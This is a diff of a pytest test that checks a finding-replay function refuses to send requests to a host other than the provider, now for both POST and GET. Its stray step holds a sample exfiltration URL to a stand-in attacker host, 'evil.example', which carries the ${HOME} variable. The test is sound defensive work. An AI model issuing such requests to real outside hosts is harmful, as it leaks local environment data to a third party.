@@ -121,15 +121,16 @@ def test_what_cannot_be_sent_as_it_was_is_not_sent(report: Report, changes: dict
 
 def test_no_request_leaves_for_another_host(report: Report) -> None:
     _, finding = failure_of(report, RULE)
-    stray = Step(role="probe", operation="fetch", method="GET", url="http://evil.example/?k=${HOME}", status=200)
     app = Refusing()
-    with pytest.raises(RepeatError, match=r"goes to http://evil\.example, which is not the provider"):
-        repeat(
-            finding.model_copy(update={"steps": [*finding.steps, stray]}),
-            "http://127.0.0.1:9",
-            {},
-            transport=AsgiTransport(app),
-        )
+    for method, words in (("POST", r"goes to http://evil\.example, which is not the provider"), ("GET", "HOME")):
+        stray = Step(role="probe", operation="fetch", method=method, url="http://evil.example/?k=${HOME}", status=200)
+        with pytest.raises(RepeatError, match=words):
+            repeat(
+                finding.model_copy(update={"steps": [*finding.steps, stray]}),
+                "http://127.0.0.1:9",
+                {},
+                transport=AsgiTransport(app),
+            )
     assert app.asked == 0
 
 
